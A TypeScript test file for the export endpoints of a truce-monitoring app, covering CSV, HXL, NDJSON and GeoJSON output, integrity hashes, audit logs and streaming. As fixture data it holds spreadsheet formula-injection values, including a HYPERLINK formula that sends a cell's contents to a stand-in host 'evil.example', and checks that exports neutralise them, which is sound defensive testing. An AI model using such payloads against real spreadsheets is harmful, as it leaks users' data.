import { parse } from 'csv-parse/sync';
import http from 'node:http';
import type { AgreementView, IncidentView } from '@truce-monitor/domain';
import { aReport, newKey, seededTruce } from '../support/fixtures.js';
import { getWithTrailers, sha256 } from '../support/http-trailers.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

/** Everything after the first `n` lines (the header row, and the HXL row). */
const afterLines = (s: string, n: number) => {
  let at = 0;
  for (let i = 0; i < n; i++) at = s.indexOf('\n', at) + 1;
  return s.slice(at);
};

describe('exports', () => {
  let t: TestApp;
  let analyst: string;
  let analystId: string;
  let monitorId: string;
  let agreement: AgreementView;
  const filed: IncidentView[] = [];
  const query = () => `?agreementId=${agreement.id}&from=2017-01-01&to=2017-01-31`;

  beforeAll(async () => {
    t = await startTestApp();
    const monitor = await t.login('monitor');
    monitorId = monitor.user.id;
    const login = await t.login('analyst');
    analyst = login.accessToken;
    analystId = login.user.id;
    const truce = await seededTruce(t, analyst);
    agreement = truce.agreement;
    const government = truce.party('Syrian Arab Army and government forces');
    const hostile = [
      { placeName: '=HYPERLINK("http://evil.example/?"&A1,"click")', description: 'Formula in the place name.' },
      { placeName: '+1+1', description: '-2+3 starts with a minus' },
      { placeName: '@SUM(A1:A9)', description: 'Then "quotes", commas, and\r\na line break' },
      { placeName: 'Ain al-Fijah', description: 'Plain, with an Arabic name: عين الفيجة' },
    ];
    for (const [i, h] of hostile.entries()) {
      const res = await t.http
        .post('/api/incidents')
        .set('Authorization', `Bearer ${monitor.accessToken}`)
        .set('Idempotency-Key', newKey())
        .send(aReport(agreement.id, { ...h, perpetratorPartyId: i % 2 ? government : null, occurredAt: `2017-01-0${i + 2}T09:30:00Z` }));
      expect(res.status).toBe(201);
      filed.push(res.body as IncidentView);
    }
    await t.db.query(
      `INSERT INTO incidents (agreement_id, occurred_at, time_precision, lat, lon, geo_precision, governorate, event_type, perpetrator_party_id,
              target_civilians, sources, description, outcome, reasons, responsible_guarantor, filed_by, source_system, source_id)
       VALUES ($1, '2017-01-10T10:00:00Z', 3, 36.2, 37.1, 2, 'SY-HL', 'shelling', $2, true, '[{"kind":"other"}]', E'\tImported.', 'violation', '[]', 'RU', $3, 'acled', 'SYR9001')`,
      [agreement.id, government, monitorId],
    );
  });
  afterAll(() => t.close());

  it('CSV: RFC 4180, every report of the filter, formula cells neutralised, no monitor identity, the source id carried', async () => {
    const res = await getWithTrailers(t.baseUrl, `/api/exports/incidents.csv${query()}`, analyst);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="incidents-\d{8}\.csv"$/);
    expect(JSON.parse(res.headers['x-truce-filter'] as string)).toEqual({
      agreementId: agreement.id,
      from: '2017-01-01',
      to: '2017-01-31',
      governorates: null,
      parties: null,
      eventTypes: null,
      outcomes: null,
      minVerification: 'reported',
    });
    expect(res.body.split('\r\n').length).toBeGreaterThan(5); // CRLF records
    const [header, ...records] = parse(res.body) as string[][];
    expect(header).toContain('source_id');
    expect(header!.some((h) => /filed|monitor|author|officer|reviewer/.test(h))).toBe(false);
    expect(records).toHaveLength(5);
    const cell = (r: string[], name: string) => r[header!.indexOf(name)];
    const byPlace = new Map(records.map((r) => [cell(r, 'description'), r]));
    expect(cell(byPlace.get('Formula in the place name.')!, 'place_name')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(cell(byPlace.get("'-2+3 starts with a minus")!, 'place_name')).toBe("'+1+1");
    expect(cell(byPlace.get('Then "quotes", commas, and\r\na line break')!, 'place_name')).toBe("'@SUM(A1:A9)");
    expect(byPlace.has("'\tImported.")).toBe(true);
    expect(cell(byPlace.get('Plain, with an Arabic name: عين الفيجة')!, 'place_name')).toBe('Ain al-Fijah');
    for (const r of records) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    const imported = records.find((r) => cell(r, 'source_id') === 'SYR9001')!;
    expect([cell(imported, 'source_system'), cell(imported, 'governorate_name'), cell(imported, 'time_precision'), cell(imported, 'damascus_day')]).toEqual(['acled', 'Aleppo', '3', '2017-01-10']);
    expect(res.body).not.toContain(monitorId);
    expect(res.body).not.toMatch(/\bmonitor\b/);
  });

  it('HXL: a hashtag row under the header; the data hash covers the data records only, as the trailer, the sidecar and every format say', async () => {
    const plain = await getWithTrailers(t.baseUrl, `/api/exports/incidents.csv${query()}`, analyst);
    const hxl = await getWithTrailers(t.baseUrl, `/api/exports/incidents.csv${query()}&hxl=1`, analyst);
    const [, tags] = parse(hxl.body) as string[][];
    for (const tag of ['#date', '#event+type', '#adm1+name', '#loc+name', '#geo+lat', '#geo+lon', '#group+name+first', '#group+name+second', '#affected+killed', '#affected+injured', '#meta+source', '#description'])
      expect(tags).toContain(tag);
    expect(tags!.every((tag) => tag.startsWith('#'))).toBe(true);

    expect(plain.headers.trailer).toBe('X-Truce-Data-Hash, X-Truce-Row-Count');
    const hash = plain.trailers['x-truce-data-hash'];
    expect(hash).toMatch(/^[0-9a-f]{64}$/);
    expect(plain.trailers['x-truce-row-count']).toBe('5');
    expect(sha256(afterLines(plain.body, 1))).toBe(hash);
    expect(sha256(afterLines(hxl.body, 2))).toBe(hash);
    expect(hxl.trailers['x-truce-data-hash']).toBe(hash);

    const sidecar = await t.http.get(`/api/exports/incidents.sha256${query()}`).set('Authorization', `Bearer ${analyst}`);
    expect(sidecar.body).toMatchObject({ rows: 5, dataSha256: hash, filter: { agreementId: agreement.id } });
    expect(sidecar.body.definition).toMatch(/tail -n \+2/);

    const ndjson = await getWithTrailers(t.baseUrl, `/api/exports/incidents.ndjson${query()}`, analyst);
    const lines = ndjson.body.trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines.at(-1).truceTrailer).toMatchObject({ rows: 5, dataSha256: hash });
    const geojson = await getWithTrailers(t.baseUrl, `/api/exports/incidents.geojson${query()}`, analyst);
    expect(JSON.parse(geojson.body).truceTrailer).toMatchObject({ rows: 5, dataSha256: hash });

    // A changed report changes the hash.
    await t.db.query("UPDATE incidents SET description = 'Changed.' WHERE source_id = 'SYR9001'");
    const after = await t.http.get(`/api/exports/incidents.sha256${query()}`).set('Authorization', `Bearer ${analyst}`);
    expect(after.body.dataSha256).not.toBe(hash);
    await t.db.query("UPDATE incidents SET description = E'\tImported.' WHERE source_id = 'SYR9001'");
  });

  it('NDJSON and GeoJSON: one report per line / per feature, exact text, the filter stated, no monitor identity', async () => {
    const ndjson = await getWithTrailers(t.baseUrl, `/api/exports/incidents.ndjson${query()}&governorates=SY-RD`, analyst);
    expect(ndjson.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = ndjson.body.trimEnd().split('\n').map((l) => JSON.parse(l));
    const rows = lines.slice(0, -1);
    expect(rows).toHaveLength(4);
    expect(rows.map((r) => r.id).sort()).toEqual(filed.map((f) => f.id).sort());
    expect(rows.find((r) => r.description === 'Formula in the place name.').placeName).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(rows[0]).toMatchObject({ governorate: 'SY-RD', governorateName: 'Rif Dimashq', location: { lat: 33.695, lon: 36.103 }, casualties: { killed: { low: 1, best: 2, high: 3 } } });
    expect(lines.at(-1).truceTrailer.filter.governorates).toEqual(['SY-RD']);
    expect(ndjson.body).not.toContain(monitorId);

    const geo = await getWithTrailers(t.baseUrl, `/api/exports/incidents.geojson${query()}`, analyst);
    expect(geo.headers['content-type']).toBe('application/geo+json; charset=utf-8');
    const collection = JSON.parse(geo.body);
    expect(collection.type).toBe('FeatureCollection');
    expect(collection.truceFilter.agreementId).toBe(agreement.id);
    expect(collection.features).toHaveLength(5);
    for (const f of collection.features) {
      expect(f).toMatchObject({ type: 'Feature', geometry: { type: 'Point' }, properties: { outcome: expect.any(String) } });
      expect(f.geometry.coordinates[0]).toBeGreaterThan(35); // [lon, lat]
    }
    expect(geo.body).not.toContain(monitorId);
  });

  it('PostgreSQL writes the CSV byte for byte as the rows say: odd numbers, empty and multi-line text, quotes at chunk edges', async () => {
    // A range of its own, so the other tests' counts stay as they are.
    const q = `?agreementId=${agreement.id}&from=2017-03-01&to=2017-03-31`;
    const odd: [number, number, string | null, string][] = [
      [0.00001, -0.0000001, '', '\n'],
      [-0.000123, 1e-7, '"', '""'],
      [12.5, -0, '-', 'ends with a quote"'],
      [33.333333333333336, 180, '\t', '\r\n\r\n'],
      [-89.99999999999999, 0.1, null, `${'"'.repeat(70_000)},\n`],
    ];
    const target = agreement.parties[0]!.id;
    const sources = [
      [{ kind: '=cmd' }, { kind: 'other' }],
      ['witness', 'media', 'ngo', 'other', '+fifth', 'sixth'].map((kind) => ({ kind })),
      [{ note: 'no kind' }, { kind: 'witness' }],
      [],
      [{ kind: 'other' }, { kind: null }, { kind: '' }, { kind: 'media' }],
    ];
    for (const [i, [lat, lon, place, description]] of odd.entries())
      await t.db.query(
        `INSERT INTO incidents (agreement_id, occurred_at, time_precision, lat, lon, geo_precision, governorate, event_type, target_civilians, target_party_id,
                sources, description, outcome, reasons, filed_by, source_system, source_id, place_name)
         VALUES ($1, $2, 1, $3, $4, 1, 'SY-XX', 'other', $7::uuid IS NULL, $7, $10, $5, 'undetermined', '[]', $6, 'ucdp', $8, $9)`,
        [agreement.id, `2017-03-0${i + 1}T10:00:00Z`, lat, lon, description, monitorId, i % 2 ? target : null, `ODD${i}`, place, JSON.stringify(sources[i])],
      );
    try {
      const csv = await getWithTrailers(t.baseUrl, `/api/exports/incidents.csv${q}`, analyst);
      const ndjson = await getWithTrailers(t.baseUrl, `/api/exports/incidents.ndjson${q}`, analyst);
      const trailer = ndjson.body.trimEnd().split('\n').map((l) => JSON.parse(l)).at(-1).truceTrailer;
      // The NDJSON export hashes the CSV records as the API writes them from the rows; PostgreSQL's CSV must be the same bytes.
      expect(trailer).toMatchObject({ rows: 5 });
      expect(csv.trailers['x-truce-row-count']).toBe('5');
      expect(sha256(afterLines(csv.body, 1))).toBe(trailer.dataSha256);
      expect(csv.trailers['x-truce-data-hash']).toBe(trailer.dataSha256);
      const [header, ...records] = parse(csv.body) as string[][];
      const cell = (r: string[], name: string) => r[header!.indexOf(name)];
      expect(records.map((r) => [cell(r, 'lat'), cell(r, 'lon')])).toEqual(odd.map(([lat, lon]) => [String(lat), String(lon)]));
      expect(records.map((r) => cell(r, 'source_kinds'))).toEqual(["'=cmd;other", 'witness;media;ngo;other;+fifth;sixth', 'witness', '', 'other;;media']);
      expect(records.map((r) => [cell(r, 'target_civilians'), cell(r, 'governorate_name')])).toEqual(odd.map((_, i) => [String(i % 2 === 0), 'SY-XX']));
      const sidecar = await t.http.get(`/api/exports/incidents.sha256${q}`).set('Authorization', `Bearer ${analyst}`);
      expect(sidecar.body).toMatchObject({ rows: 5, dataSha256: trailer.dataSha256 });
    } finally {
      await t.db.query("DELETE FROM incidents WHERE source_id LIKE 'ODD%'");
    }
  });

  it('an empty export is still well-formed', async () => {
    const q = `?agreementId=${agreement.id}&from=2015-01-01&to=2015-01-31`;
    const csv = await getWithTrailers(t.baseUrl, `/api/exports/incidents.csv${q}`, analyst);
    expect(parse(csv.body)).toHaveLength(1);
    expect(csv.trailers['x-truce-data-hash']).toBe(sha256(''));
    expect(JSON.parse((await getWithTrailers(t.baseUrl, `/api/exports/incidents.geojson${q}`, analyst)).body).features).toEqual([]);
  });

  it('every export is audited: who, when, which filter, and what it held', async () => {
    await getWithTrailers(t.baseUrl, `/api/exports/incidents.ndjson${query()}&eventTypes=shelling`, analyst);
    const { rows } = await t.db.query("SELECT action, actor_id, at, data FROM audit_log WHERE action LIKE 'export.%' ORDER BY id DESC LIMIT 2");
    const [finished, started] = rows as { action: string; actor_id: string; at: Date; data: Record<string, unknown> }[];
    expect(started).toMatchObject({ action: 'export.started', actor_id: analystId, data: { format: 'ndjson', filter: { agreementId: agreement.id, eventTypes: ['shelling'] } } });
    expect(finished).toMatchObject({ action: 'export.finished', actor_id: analystId, data: { format: 'ndjson', complete: true, rows: 5, dataSha256: expect.stringMatching(/^[0-9a-f]{64}$/) } });
    expect(Date.now() - started!.at.getTime()).toBeLessThan(60_000);
  });

  it('streams many rows in constant memory, and a client that goes away stops the query', async () => {
    await t.db.query(
      `INSERT INTO incidents (agreement_id, occurred_at, time_precision, lat, lon, geo_precision, governorate, event_type, target_civilians, sources,
              description, outcome, reasons, filed_by, source_system, source_id)
       SELECT $1, '2017-02-01T00:00:00Z'::timestamptz + n * interval '1 second', 1, 33.5, 36.3, 1, 'SY-DI', 'other', true, '[{"kind":"other"}]',
              repeat('long text ', 40), 'undetermined', '[]', $2, 'ucdp', 'BULK' || n
         FROM generate_series(1, 40000) n`,
      [agreement.id, monitorId],
    );
    const exporting = () =>
      t.db.query("SELECT count(*)::int AS n FROM pg_stat_activity WHERE query LIKE '/* truce-monitor export */%' AND pid <> pg_backend_pid()");
    await new Promise<void>((resolve, reject) => {
      const req = http.get(`${t.baseUrl}/api/exports/incidents.csv?agreementId=${agreement.id}`, { headers: { authorization: `Bearer ${analyst}` } }, (res) => {
        let received = 0;
        res.on('data', async (chunk: Buffer) => {
          received += chunk.length;
          if (received < 512 * 1024 || received - chunk.length >= 512 * 1024) return;
          res.pause();
          try {
            expect((await exporting()).rows[0].n).toBe(1);
            req.destroy();
            resolve();
          } catch (e) {
            reject(e);
          }
        });
      });
      req.on('error', () => undefined);
    });
    const deadline = Date.now() + 5000;
    while ((await exporting()).rows[0].n !== 0) {
      if (Date.now() > deadline) throw new Error('the export query is still running after its client left');
      await new Promise((r) => setTimeout(r, 50));
    }
    const { rows } = await t.db.query("SELECT data FROM audit_log WHERE action = 'export.finished' ORDER BY id DESC LIMIT 1");
    expect(rows[0].data).toMatchObject({ complete: false });
    // The API is fine afterwards, and a full export of every row streams through.
    const full = await getWithTrailers(t.baseUrl, `/api/exports/incidents.csv?agreementId=${agreement.id}`, analyst);
    expect(full.trailers['x-truce-row-count']).toBe('40005');
  });
});
